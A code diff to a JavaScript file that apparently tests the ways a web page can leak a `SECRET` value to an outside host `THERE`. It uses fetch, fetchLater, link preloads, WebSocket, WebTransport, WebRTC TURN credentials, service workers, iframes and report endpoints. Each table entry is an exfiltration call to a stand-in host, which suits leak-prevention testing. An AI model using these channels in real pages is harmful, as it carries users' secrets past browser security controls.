@@ -1,13 +1,21 @@
-// Every way in which a page can talk; each tells `SECRET` to `THERE`. `HERE` is the page's own site.
+// The first ways in which a page can talk; each tells `SECRET` to `THERE`. `HERE` is the page's own
+// site. What stands above the tables is for sites in numbers; `prelude.js` has the same for named ones.
 const there = (name) => `${THERE}/hit/${name}?e=${SECRET}`;
 const onward = (code, name) => `/redirect?${code}:${encodeURIComponent(there(name))}`;
-const file = (script) => `/static?${encodeURIComponent(script)}`;
+const bare = () => THERE;
+const tag = () => SECRET;
 const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
 const blob = (text) => URL.createObjectURL(new Blob([text]));
 const rules = (told) => add("script", { type: "speculationrules", textContent: JSON.stringify(told) });
 const sent = { method: "POST", body: SECRET, mode: "no-cors" };
 const fetched = (name) => `fetch(${JSON.stringify(there(name))}, ${JSON.stringify(sent)})`;
 const socket = (name) => there(name).replace("http", "ws");
+const quic = (name) => there(name).replace("http:", "https:");
+const stun = () => `stun:127.0.0.1:${UDP}`;
+const turn = () => `turn:${new URL(THERE).host}?transport=tcp`;
+const SCRIPTS = { run: fetched, install: (name) => `self.oninstall = () => ${fetched(name)}` };
+const file = (kind, name) => `/static?${encodeURIComponent(SCRIPTS[kind](name))}`;
+const reporting = (name) => `/report?${encodeURIComponent(there(name))}`;
 const form = (given) => {
   const made = add("form", { method: "post", ...given });
   made.innerHTML = `<input name=e value=${SECRET}><button>go</button>`;
@@ -29,9 +37,9 @@ const STAYING = {
   prefetch: () => add("link", { rel: "prefetch", href: there("prefetch") }),
   preload: () => add("link", { rel: "preload", as: "image", href: there("preload") }),
   modulepreload: () => add("link", { rel: "modulepreload", href: there("modulepreload") }),
-  icon: () => add("link", { rel: "icon", href: there("icon") }),
-  preconnect: () => add("link", { rel: "preconnect", href: THERE }),
-  dns: () => add("link", { rel: "dns-prefetch", href: THERE }),
+  icon: () => document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: there("icon") })),
+  preconnect: () => add("link", { rel: "preconnect", href: bare("preconnect") }),
+  dns: () => add("link", { rel: "dns-prefetch", href: bare("dns") }),
   object: () => add("object", { data: there("object") }),
   embed: () => add("embed", { src: there("embed") }),
   video: () => add("video", { src: there("video"), preload: "auto" }).load(),
@@ -51,7 +59,7 @@ const STAYING = {
   fetchlater: () => fetchLater(there("fetchlater"), { method: "POST", body: SECRET, activateAfter: 0 }),
   redirected_fetch: () => fetch(onward(307, "redirected_fetch"), { ...sent, mode: "cors" }),
   worker: () => new Worker(blob(fetched("worker"))),
-  csp_report: () => add("iframe", { src: `/report?${encodeURIComponent(there("csp_report"))}` }),
+  csp_report: () => add("iframe", { src: reporting("csp_report") }),
   popup_fetch: () => {
     const other = open("/blank");
     setTimeout(() => other.fetch(there("popup_fetch"), sent), 100);
@@ -59,11 +67,11 @@ const STAYING = {
   websocket: () => new WebSocket(socket("websocket")),
   worker_websocket: () => new Worker(blob(`new WebSocket("${socket("worker_websocket")}")`)),
   websocketstream: () => new WebSocketStream(socket("websocketstream")),
-  webtransport: () => new WebTransport(there("webtransport").replace("http:", "https:")),
-  webrtc: () => call({ urls: `stun:127.0.0.1:${UDP}` }),
-  webrtc_relay: () => call({ urls: `turn:${new URL(THERE).host}?transport=tcp`, username: SECRET, credential: "x" }),
-  sharedworker: () => new SharedWorker(file(fetched("sharedworker"))),
-  serviceworker: () => navigator.serviceWorker.register(file(`self.oninstall = () => ${fetched("serviceworker")}`)),
+  webtransport: () => new WebTransport(quic("webtransport")),
+  webrtc: () => call({ urls: stun("webrtc") }),
+  webrtc_relay: () => call({ urls: turn(), username: tag("webrtc_relay"), credential: "x" }),
+  sharedworker: () => new SharedWorker(file("run", "sharedworker")),
+  serviceworker: () => navigator.serviceWorker.register(file("install", "serviceworker")),
   iframe: () => add("iframe", { src: there("iframe") }),
   srcdoc: () => add("iframe", { srcdoc: `<img src="${there("srcdoc")}">` }),
   refresh_in_frame: () => add("iframe", { srcdoc: `<meta http-equiv=refresh content="0;url=${there("refresh_in_frame")}">` }),
